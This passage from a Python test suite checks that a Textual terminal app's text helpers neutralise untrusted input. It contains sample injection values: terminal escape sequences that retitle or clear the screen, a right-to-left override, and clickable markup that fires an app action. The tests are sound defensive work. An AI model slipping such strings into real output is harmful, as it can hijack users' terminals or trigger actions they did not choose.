        assert len(meta) <= 1, f"{i}: the value added markup: {meta}"
        assert not leaks(filled.plain, set()), (i, payload[:200])
    assert len(payloads) > CORPUS_SIZE


class WidgetBench(App[None]):
    """Every widget kind the panels put untrusted text into, filled through panels/text.py."""

    def __init__(self, payloads: list[str]) -> None:
        super().__init__()
        self.payloads = payloads
        self.ran: list[str] = []

    def compose(self) -> ComposeResult:
        yield Static(safe("\n".join(self.payloads)), id="static-multi")
        for p in self.payloads[:6]:
            yield Label(safe_line(p, 150))
            yield Static(template("[b]key[/b]: $value", value=p))
        table: DataTable[Text] = DataTable(id="table")
        table.add_columns("a", "b")
        for n, p in enumerate(self.payloads):
            table.add_row(safe_cell(p, 40), safe_cell(p[::-1], 40), key=f"r{n}:{p}")
        yield table
        tree: Tree[str] = Tree(Text("root"), id="tree")
        for p in self.payloads[:8]:
            tree.root.add_leaf(safe_cell(p, 60), data=p)
        tree.root.expand()
        yield tree
        yield FilterBar(id="filter-bar")
        yield SafeInput(id="prompt")

    def on_mount(self) -> None:
        for p in self.payloads[:3]:
            self.notify(cell(p, 200), markup=False, timeout=60)
        pasted = "".join(self.payloads[:4])
        for box in self.query(Input):  # a paste (of text copied from a log, say) into each box
            box.post_message(events.Paste(pasted))

    async def action_quit(self) -> None:
        self.ran.append("quit")

    def action_bell(self) -> None:
        self.ran.append("bell")

    def action_command_line(self) -> None:
        self.ran.append("command_line")


def _class_payloads(cls: str) -> list[str]:
    """Every atom of `cls` alone, and the first corpus combinations that contain one of them."""
    atoms = list(ATOMS[cls])
    singles = sum(len(a) for a in ATOMS.values())
    combos = [p for p in PAYLOADS[singles:] if any(atom in p for atom in atoms)][:20]
    extra = [MEGABYTE_LINE] if cls == "long_word" else []
    return atoms + combos + extra


@pytest.mark.parametrize("cls", CLASSES)
async def test_widgets_fed_through_the_helpers_write_no_escape(
    cls: str, benign_forms: set[str]
) -> None:
    payloads = _class_payloads(cls)
    app = WidgetBench(payloads)
    async with app.run_test(size=(100, 60)) as pilot:
        await pilot.pause()
        found = leaks(terminal_bytes(app), benign_forms)
        assert not found, found
        hits = [(line.find("[@click="), y) for y, line in enumerate(screen_lines(app))]
        for x, y in [(x, y) for x, y in hits if x >= 0][:3]:
            await pilot.click(offset=(x + 1, y))
        await pilot.pause()
        assert app.is_running and app._exception is None and app.ran == []
        assert not leaks(terminal_bytes(app), benign_forms)


class UnsafeBench(App[None]):
    """What the panels must not do: raw text as Content, untrusted text as markup."""

    def __init__(self) -> None:
        super().__init__()
        self.ran: list[str] = []

    def compose(self) -> ComposeResult:
        yield Label(Content("title \x1b]0;pwned\x07 clear \x1b[2J c1 \x9b2J \u202eevil"))
        yield Static("[@click=app.bell]click me[/]")
        yield Input(id="plain")

    def on_mount(self) -> None:
        self.query_one(Input).post_message(events.Paste("\x1b]0;pasted\x07"))

    def action_bell(self) -> None:
        self.ran.append("bell")


async def test_the_detectors_catch_unsafe_rendering(benign_forms: set[str]) -> None:
    """The checks above mean something: raw text leaks and markup runs actions when clicked."""
    app = UnsafeBench()
    async with app.run_test(size=(60, 8)) as pilot:
        await pilot.pause()
        found = " ".join(leaks(terminal_bytes(app), benign_forms))
        assert "'\\x1b]'" in found and "'\\x9b'" in found and "U+202E" in found
        assert "CSI forms Textual does not emit" in found  # the ESC[2J
        assert "\x1b]0;pasted" in terminal_bytes(app)  # Textual's Input writes a pasted OSC as is
        x = screen_lines(app)[1].find("click me")
        await pilot.click(offset=(x + 1, 1))
        await pilot.pause()
        assert app.ran == ["bell"]
